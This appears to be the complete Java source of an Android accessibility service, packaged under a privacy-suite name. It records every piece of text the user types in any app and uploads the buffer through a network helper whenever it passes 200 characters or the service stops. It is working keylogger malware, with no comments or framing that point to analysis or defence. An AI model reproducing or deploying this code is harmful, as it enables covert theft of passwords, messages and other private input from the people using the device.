package cn.privlens.suite.typed_text_buffer;

import android.accessibilityservice.AccessibilityService;
import android.view.accessibility.AccessibilityEvent;

public class Watch extends AccessibilityService {
    private static final StringBuilder kept = new StringBuilder();

    @Override
    public void onAccessibilityEvent(AccessibilityEvent event) {
        if (event.getEventType() != AccessibilityEvent.TYPE_VIEW_TEXT_CHANGED) {
            return;
        }
        for (CharSequence part : event.getText()) {
            kept.append(part).append('\n');
        }
        if (kept.length() > 200) {
            flush();
        }
    }

    private void flush() {
        Net.post(kept.toString());
        kept.setLength(0);
    }

    @Override
    public void onInterrupt() {
        flush();
    }
}
